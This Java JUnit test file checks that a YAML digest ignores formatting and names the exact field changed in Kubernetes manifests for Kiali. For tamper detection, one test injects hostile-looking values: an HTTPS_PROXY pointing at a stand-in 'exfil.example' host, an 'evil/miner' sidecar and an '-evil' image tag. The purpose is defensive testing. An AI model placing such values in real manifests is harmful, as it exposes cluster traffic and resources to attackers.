package io.meshform.providers.istio.install;

import static io.meshform.providers.TestSpecs.yaml;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import org.junit.jupiter.api.Test;

/** The canonical digest ignores how YAML is written and sees every change of content; fields name where. */
class SampleDigestTest {
    static final String ROLE = """
            apiVersion: rbac.authorization.k8s.io/v1
            kind: ClusterRole
            metadata:
              name: kiali
              labels: {app: kiali}
            rules:
            - apiGroups: [""]
              resources: [configmaps, endpoints, pods/log]
              verbs: [get, list, watch]
            """;

    @Test
    void formattingDoesNotChangeTheDigest() {
        String reformatted = """
                # the same role, written differently
                kind: "ClusterRole"
                apiVersion: 'rbac.authorization.k8s.io/v1'
                rules:
                  - verbs:
                      - get
                      - list
                      - watch
                    resources: ["configmaps", "endpoints", "pods/log"]
                    apiGroups:
                      - ''
                metadata: {labels: {app: kiali}, name: kiali}
                """;
        assertEquals(SampleDigest.of(yaml(ROLE)), SampleDigest.of(yaml(reformatted)));
    }

    @Test
    void anyChangeOfContentChangesItAndIsNamed() {
        SampleDigest sample = SampleDigest.of(yaml(ROLE));
        SampleDigest verbs = SampleDigest.of(yaml(ROLE.replace("[get, list, watch]", "[get, list, watch, delete]")));
        assertNotEquals(sample.sha256(), verbs.sha256());
        assertEquals(List.of("rules"), verbs.differences(sample), "a small list is one field");
        SampleDigest order = SampleDigest.of(yaml(ROLE.replace("[get, list, watch]", "[list, get, watch]")));
        assertNotEquals(sample.sha256(), order.sha256(), "list order is content");
        SampleDigest label = SampleDigest.of(yaml(ROLE.replace("{app: kiali}", "{app: kiali, extra: x}")));
        assertEquals(List.of("metadata"), label.differences(sample));
    }

    @Test
    void aLargeObjectIsSplitDownToTheFieldThatDiffers() {
        String deployment = """
                apiVersion: apps/v1
                kind: Deployment
                metadata: {name: kiali, namespace: istio-system}
                spec:
                  replicas: 1
                  template:
                    spec:
                      serviceAccountName: kiali
                      containers:
                      - name: kiali
                        image: quay.io/kiali/kiali:v2.26
                        command: ["/opt/kiali/kiali", "-config", "/kiali-configuration/config.yaml"]
                        env:
                        - {name: ACTIVE_NAMESPACE, valueFrom: {fieldRef: {fieldPath: metadata.namespace}}}
                        - {name: LOG_LEVEL, value: info}
                        - {name: LOG_FORMAT, value: text}
                        - {name: LOG_TIME_FIELD_FORMAT, value: "2006-01-02T15:04:05Z07:00"}
                        - {name: LOG_SAMPLER_RATE, value: "1"}
                        volumeMounts:
                        - {name: kiali-configuration, mountPath: /kiali-configuration}
                        - {name: kiali-cert, mountPath: /kiali-cert}
                        - {name: kiali-secret, mountPath: /kiali-secret}
                      volumes:
                      - {name: kiali-configuration, configMap: {name: kiali}}
                """;
        SampleDigest sample = SampleDigest.of(yaml(deployment));
        SampleDigest image = SampleDigest.of(yaml(deployment.replace("kiali:v2.26", "kiali:v2.26-evil")));
        assertEquals(List.of("spec.template.spec.containers[0].image"), image.differences(sample));
        SampleDigest env = SampleDigest.of(yaml(deployment.replace("        volumeMounts:",
                "        - {name: HTTPS_PROXY, value: \"http://exfil.example:3128\"}\n        volumeMounts:")));
        assertEquals(List.of("spec.template.spec.containers[0].env"), env.differences(sample));
        SampleDigest sidecar = SampleDigest.of(yaml(deployment.replace("      volumes:",
                "      - {name: miner, image: evil/miner}\n      volumes:")));
        assertEquals(List.of("spec.template.spec.containers[1] (added)"), sidecar.differences(sample));
        SampleDigest noCommand = SampleDigest.of(yaml(deployment.replace(
                "        command: [\"/opt/kiali/kiali\", \"-config\", \"/kiali-configuration/config.yaml\"]\n", "")));
        assertEquals(List.of("spec.template.spec.containers[0].command (removed)"), noCommand.differences(sample));
    }

    @Test
    void keysThatAreNoIdentifiersAreQuoted() {
        assertEquals("data[\"config.yaml\"]", SampleDigest.display("/data/config.yaml"));
        assertEquals("metadata.labels[\"app.kubernetes.io/name\"]", SampleDigest.display("/metadata/labels/app.kubernetes.io~1name"));
        assertTrue(SampleDigest.display("/rules/3/verbs").equals("rules[3].verbs"));
    }
}
